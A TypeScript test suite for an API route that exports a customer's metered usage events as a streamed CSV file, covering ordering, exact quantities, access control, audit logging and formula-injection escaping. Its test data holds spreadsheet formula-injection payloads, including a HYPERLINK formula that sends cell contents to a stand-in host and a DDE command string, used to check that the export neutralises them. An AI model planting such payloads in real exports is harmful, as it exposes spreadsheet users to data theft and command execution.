// GET /api/customers/{id}/events.csv: a customer's raw usage events in a period as a streamed CSV.
// Events are recorded through the ingestion service; the route is called in-process with real
// session cookies, and its body read back with csv-parse as a spreadsheet or a script would.
import { parse } from "csv-parse/sync";
import Decimal from "decimal.js";
import { describe, expect, it } from "vitest";
import { GET } from "@/app/api/customers/[customerId]/events.csv/route";
import { db, type Prisma } from "@/lib/db";
import { recordUsageEvents } from "@/lib/metering/record-usage-events";
import { streamUsageEventsCsv } from "@/lib/metering/stream-usage-events-csv";
import { getUtcMonth } from "@/lib/time/utc-month";
import { createCustomer, createUser, get, sessionCookie, unique } from "./factories";
import { createReportLine } from "./report-line-helpers";
import { createLiveSubscription, createUsageMeter } from "./usage-helpers";

const NOW = new Date("2026-11-25T00:00:00.000Z");
const START = new Date("2026-11-01T00:00:00.000Z");
const END = new Date("2026-11-21T00:00:00.000Z");
const PERIOD_QUERY = `?periodStart=${START.toISOString()}&periodEnd=${END.toISOString()}`;
const HEADER = ["id", "occurred_at", "received_at", "meter", "quantity", "idempotency_key", "properties", "status", "reported_at", "stripe_identifier"] as const;
const INJECTION_KEYS = ['=HYPERLINK("http://evil.test/?q="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];
const PROPERTIES = { link: '=HYPERLINK("http://evil.test")', tab: "\t=1", lf: "\n=1", cr: "\r=1", comma: "a,b", quote: 'say "hi"', unicode: "東京 🚀 naïve" };
/** Exact at these sizes (decimal.js's default keeps 20 significant digits). */
const Exact = Decimal.clone({ precision: 100 });
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

type TEventSpec = { meter: Prisma.MeterModel; value: string; at: string; key?: string; properties?: Record<string, string> };
type TCsvRow = Record<(typeof HEADER)[number], string>;

async function record(externalId: string, events: TEventSpec[]): Promise<void> {
  const inputs = events.map((event) => ({
    idempotency_key: event.key ?? unique("evt"),
    customer: externalId,
    meter: event.meter.eventName,
    value: event.value,
    timestamp: event.at,
    ...(event.properties ? { properties: event.properties } : {}),
  }));
  for (let start = 0; start < inputs.length; start += 1_000) {
    await recordUsageEvents(inputs.slice(start, start + 1_000), { pointer: (index) => `/events/${index}`, now: NOW });
  }
}

/** A customer with a member, two meters (one allowing negative values) and events in and around the period. */
async function customerWithEvents() {
  const customer = await createCustomer();
  const member = await createUser({ customerId: customer.id });
  const calls = await createUsageMeter("SUM", { displayName: "Calls" });
  const credits = await createUsageMeter("SUM", { displayName: "Credits", allowNegative: true });
  await record(customer.externalId, [
    { meter: calls, value: "1", at: "2026-10-31T23:59:59.999Z", key: "outside-before" },
    { meter: calls, value: "2", at: "2026-11-01T00:00:00.000Z", key: "first-instant" },
    { meter: calls, value: "0.000000000001", at: "2026-11-05T08:00:00.000Z" },
    { meter: credits, value: "-0.25", at: "2026-11-05T09:00:00.000Z" },
    { meter: credits, value: "-5", at: "2026-11-06T09:00:00.000Z" },
    { meter: calls, value: "12345678901234.5", at: "2026-11-07T09:00:00.000Z", properties: PROPERTIES },
    ...INJECTION_KEYS.map((key, index) => ({ meter: index % 2 ? credits : calls, value: String(index + 1), at: "2026-11-10T12:00:00.000Z", key })),
    { meter: credits, value: "3", at: "2026-11-10T12:00:00.000Z" },
    { meter: calls, value: "4", at: "2026-11-20T23:59:59.999Z", key: "last-instant" },
    { meter: calls, value: "100", at: "2026-11-21T00:00:00.000Z", key: "outside-after" },
  ]);
  return { customer, member, cookie: await sessionCookie(member.id), calls, credits };
}

/** The customer's events in [START, END) as the database holds them, in (occurred_at, id) order. */
async function storedEvents(customerId: string, meterId?: string) {
  const events = await db.usageEvent.findMany({
    where: { customerId, occurredAt: { gte: START, lt: END }, ...(meterId ? { meterId } : {}) },
    orderBy: [{ occurredAt: "asc" }, { id: "asc" }],
  });
  return events.map((event) => ({ id: event.id.toString(), quantity: event.quantity.toString(), key: event.idempotencyKey }));
}

async function download(customerId: string, query: string, cookie?: string): Promise<Response> {
  return GET(get(`/api/customers/${customerId}/events.csv${query}`, cookie ? { cookie } : {}), { params: Promise.resolve({ customerId }) });
}

async function csvOf(response: Response): Promise<{ text: string; header: string[]; rows: TCsvRow[] }> {
  const text = await response.text();
  expect(response.status, text).toBe(200);
  const records: string[][] = parse(text);
  const header = records[0] ?? [];
  return { text, header, rows: records.slice(1).map((record) => Object.fromEntries(header.map((name, index) => [name, record[index] ?? ""])) as TCsvRow) };
}

const auditRows = (customerId: string) => db.auditLog.findMany({ where: { customerId, action: "usage_events_csv.downloaded" }, orderBy: { id: "asc" } });

describe("GET /api/customers/{id}/events.csv", () => {
  it("streams every event of the period exactly once, in order, none outside [start, end), with exact quantities", async () => {
    const { customer, cookie } = await customerWithEvents();
    const response = await download(customer.id, PERIOD_QUERY, cookie);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${customer.externalId}-events-2026-11-01-2026-11-21.csv"`);
    expect(response.headers.get("cache-control")).toBe("no-store");
    const { text, header, rows } = await csvOf(response);

    expect(text.startsWith(`${HEADER.join(",")}\r\n`)).toBe(true);
    expect(header).toEqual(HEADER);
    const stored = await storedEvents(customer.id);
    expect(stored.length).toBe(11);
    expect(rows.map((row) => row.id)).toEqual(stored.map((event) => event.id));
    expect(rows.map((row) => row.idempotency_key)).not.toContain("outside-before");
    expect(rows.map((row) => row.idempotency_key)).not.toContain("outside-after");
    expect(rows[0]).toMatchObject({ idempotency_key: "first-instant", occurred_at: "2026-11-01T00:00:00.000Z", quantity: "2" });
    expect(rows.at(-1)).toMatchObject({ idempotency_key: "last-instant", occurred_at: "2026-11-20T23:59:59.999Z" });

    const total = rows.reduce((sum, row) => sum.plus(row.quantity), new Exact(0));
    const storedTotal = stored.reduce((sum, event) => sum.plus(event.quantity), new Exact(0));
    expect(total.toFixed()).toBe(storedTotal.toFixed());
    expect(total.toFixed()).toBe("12345678901248.250000000001");
    // Negative quantities stay numbers: no inert prefix in a number column.
    expect(rows.map((row) => row.quantity)).toEqual(expect.arrayContaining(["-0.25", "-5", "0.000000000001", "12345678901234.5"]));
  });

  it("makes formula payloads in keys and properties inert, and keeps the properties' exact values", async () => {
    const { customer, cookie } = await customerWithEvents();
    const { rows } = await csvOf(await download(customer.id, PERIOD_QUERY, cookie));
    const keys = rows.map((row) => row.idempotency_key);
    for (const key of INJECTION_KEYS) expect(keys).toContain(`'${key}`);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        const allowed = column === "quantity" ? /^-\d/.test(cell) : cell.startsWith("'");
        expect(!FORMULA_START.test(cell) || allowed, `${column}: ${JSON.stringify(cell)}`).toBe(true);
      }
    }
    const withProperties = rows.find((row) => row.properties !== "");
    expect(JSON.parse(withProperties?.properties ?? "null")).toEqual(PROPERTIES);
  });

  it("shows each event's status with Stripe and the identifier it is reported under", async () => {
    const { customer, cookie, calls } = await customerWithEvents();
    const batch = await db.reportBatch.create({ data: { workerId: unique("worker"), eventCount: 0, lineCount: 0 } });
    const line = (status: "SENT" | "HELD" | "DEAD") => createReportLine(db, { customerId: customer.id, meterId: calls.id, batchId: batch.id, eventName: calls.eventName, status });
    const [sent, held, dead] = [await line("SENT"), await line("HELD"), await line("DEAD")];
    const sentAt = new Date("2026-11-21T01:02:03.004Z");
    await db.usageEvent.updateMany({ where: { customerId: customer.id, idempotencyKey: "first-instant" }, data: { reportLineId: sent.id, reportedAt: sentAt } });
    await db.usageEvent.updateMany({ where: { customerId: customer.id, idempotencyKey: "last-instant" }, data: { reportLineId: held.id } });
    await db.usageEvent.updateMany({ where: { customerId: customer.id, idempotencyKey: INJECTION_KEYS[0] }, data: { reportLineId: dead.id } });

    const { rows } = await csvOf(await download(customer.id, PERIOD_QUERY, cookie));
    const byKey = (key: string) => rows.find((row) => row.idempotency_key === key);
    expect(byKey("first-instant")).toMatchObject({ status: "reported", reported_at: "2026-11-21T01:02:03.004Z", stripe_identifier: sent.identifier });
    expect(byKey("last-instant")).toMatchObject({ status: "held", reported_at: "", stripe_identifier: held.identifier });
    expect(byKey(`'${INJECTION_KEYS[0]}`)).toMatchObject({ status: "failed", stripe_identifier: dead.identifier });
    expect(rows.filter((row) => row.status === "pending").length).toBe(rows.length - 3);
    expect(rows.filter((row) => row.status === "pending").every((row) => row.stripe_identifier === "" && row.reported_at === "")).toBe(true);
  });

  it("streams more than a page of events (ties on one instant across meters included) in (occurred_at, id) order", async () => {
    const customer = await createCustomer();
    const member = await createUser({ customerId: customer.id });
    const [a, b] = [await createUsageMeter("SUM"), await createUsageMeter("SUM")];
    const events: TEventSpec[] = [];
    for (let index = 0; index < 5_203; index++) {
      const at = index < 5_100 ? "2026-11-02T00:00:00.000Z" : new Date(Date.UTC(2026, 10, 3) + index).toISOString();
      events.push({ meter: index % 3 === 0 ? b : a, value: String((index % 17) + 0.5), at });
    }
    await record(customer.externalId, events);

    const { rows } = await csvOf(await download(customer.id, PERIOD_QUERY, await sessionCookie(member.id)));
    const stored = await storedEvents(customer.id);
    expect(stored.length).toBe(5_203);
    expect(rows.map((row) => row.id)).toEqual(stored.map((event) => event.id));
    expect(new Set(rows.map((row) => row.id)).size).toBe(5_203);
    const total = rows.reduce((sum, row) => sum.plus(row.quantity), new Exact(0));
    expect(total.toFixed()).toBe(stored.reduce((sum, event) => sum.plus(event.quantity), new Exact(0)).toFixed());
  });

  it("writes the same file with pages of 1, 2 and 3 events (page boundaries inside runs of equal instants)", async () => {
    const { customer, member } = await customerWithEvents();
    const audit = { actor: { kind: "USER" as const, userId: member.id } };
    const input = { customerId: customer.id, period: { periodStart: START, periodEnd: END }, meter: null };
    const whole = await new Response((await streamUsageEventsCsv(input, { audit })).stream).text();
    for (const pageSize of [1, 2, 3]) {
      const paged = await new Response((await streamUsageEventsCsv(input, { audit, pageSize })).stream).text();
      expect(paged, `page size ${pageSize}`).toBe(whole);
    }
    expect(parse(whole).length).toBe(12);
  });

  it("narrows to one meter, and answers 404 for a meter that does not exist", async () => {
    const { customer, cookie, credits } = await customerWithEvents();
    const { rows } = await csvOf(await download(customer.id, `${PERIOD_QUERY}&meter=${credits.eventName}`, cookie));
    expect(rows.map((row) => row.id)).toEqual((await storedEvents(customer.id, credits.id)).map((event) => event.id));
    expect(new Set(rows.map((row) => row.meter))).toEqual(new Set([credits.eventName]));

    const missing = await download(customer.id, `${PERIOD_QUERY}&meter=no-such-meter`, cookie);
    expect(missing.status).toBe(404);
    expect(missing.headers.get("content-type")).toBe("application/problem+json");
    expect(await missing.json()).toMatchObject({ code: "not_found", detail: 'No meter "no-such-meter".' });
  });

  it("takes period=current as the live subscription's period, else the UTC month", async () => {
    const { customer, cookie } = await customerWithEvents();
    const before = getUtcMonth(new Date());
    const withoutSubscription = await download(customer.id, "?period=current", cookie);
    const month = [before, getUtcMonth(new Date())].map(({ periodStart, periodEnd }) => `${periodStart.toISOString().slice(0, 10)}-${periodEnd.toISOString().slice(0, 10)}`);
    expect(month).toContain(/filename=".*-events-(.*)\.csv"/.exec(withoutSubscription.headers.get("content-disposition") ?? "")?.[1]);
    await withoutSubscription.body?.cancel();

    await createLiveSubscription(customer.id, { start: START, end: END });
    const current = await download(customer.id, "?period=current", cookie);
    expect(current.headers.get("content-disposition")).toBe(`attachment; filename="${customer.externalId}-events-2026-11-01-2026-11-21.csv"`);
    const explicit = await download(customer.id, PERIOD_QUERY, cookie);
    expect(await current.text()).toBe(await explicit.text());
  });

  it("answers another customer's member 404, exactly as for a missing id, and logs nothing", async () => {
    const { customer } = await customerWithEvents();
    const stranger = await createUser({ customerId: (await createCustomer()).id });
    const cookie = await sessionCookie(stranger.id);
    const other = await download(customer.id, PERIOD_QUERY, cookie);
    const missing = await download("0190f7a2-0000-7000-8000-000000000000", PERIOD_QUERY, cookie);
    expect(other.status).toBe(404);
    expect(other.headers.get("content-type")).toBe("application/problem+json");
    const strip = (body: Record<string, unknown>) => ({ ...body, instance: undefined, request_id: undefined });
    expect(strip(await other.json())).toEqual(strip(await missing.json()));
    expect(await auditRows(customer.id)).toEqual([]);

    const anonymous = await download(customer.id, PERIOD_QUERY);
    expect(anonymous.status).toBe(401);
    expect(await auditRows(customer.id)).toEqual([]);
  });

  it("lets admins and finance download any customer's events", async () => {
    const { customer } = await customerWithEvents();
    for (const staffRole of ["ADMIN", "FINANCE"] as const) {
      const staff = await createUser({ staffRole });
      const { rows } = await csvOf(await download(customer.id, PERIOD_QUERY, await sessionCookie(staff.id)));
      expect(rows.length, staffRole).toBe(11);
    }
  });

  it("records who downloaded what in the audit log before the first byte is streamed", async () => {
    const { customer, member, cookie, calls } = await customerWithEvents();
    const response = await download(customer.id, `${PERIOD_QUERY}&meter=${calls.eventName}`, cookie);
    expect(response.status).toBe(200);
    const [entry, ...more] = await auditRows(customer.id);
    expect(more).toEqual([]);
    expect(entry).toMatchObject({
      actorKind: "USER",
      actorUserId: member.id,
      entityType: "customer",
      entityId: customer.id,
      requestId: response.headers.get("x-request-id"),
      after: { periodStart: START.toISOString(), periodEnd: END.toISOString(), meter: calls.eventName },
    });
    await response.body?.cancel();
  });

  it("refuses bad parameters with a problem naming each one", async () => {
    const { customer, cookie } = await customerWithEvents();
    const cases: [string, string[]][] = [
      ["", ["/query/periodStart", "/query/periodEnd"]],
      [`?periodStart=${START.toISOString()}`, ["/query/periodEnd"]],
      [`?periodStart=${END.toISOString()}&periodEnd=${START.toISOString()}`, ["/query/periodEnd"]],
      [`?periodStart=${START.toISOString()}&periodEnd=${START.toISOString()}`, ["/query/periodEnd"]],
      ["?periodStart=2025-11-01T00:00:00Z&periodEnd=2026-11-03T00:00:00Z", ["/query/periodEnd"]],
      ["?periodStart=2026-11-01&periodEnd=2026-11-21T00:00:00Z", ["/query/periodStart"]],
      ["?periodStart=yesterday&periodEnd=2026-11-21T00:00:00Z", ["/query/periodStart"]],
      ["?period=previous", ["/query/period"]],
      [`?period=current&periodStart=${START.toISOString()}&periodEnd=${END.toISOString()}`, ["/query/period"]],
      [`${PERIOD_QUERY}&format=xlsx`, ["/query"]], // an unknown parameter (named in the detail)
    ];
    for (const [query, pointers] of cases) {
      const response = await download(customer.id, query, cookie);
      const body = await response.json();
      expect(response.status, query).toBe(400);
      expect(response.headers.get("content-type")).toBe("application/problem+json");
      expect(body.code).toBe("invalid_params");
      expect(body.errors.map((error: { pointer: string }) => error.pointer), query).toEqual(pointers);
      if (query.includes("format")) expect(body.detail).toContain("format");
    }
    const badId = await download("not-a-uuid", PERIOD_QUERY, cookie);
    expect(badId.status).toBe(400);
    expect(await auditRows(customer.id)).toEqual([]);
  });
});
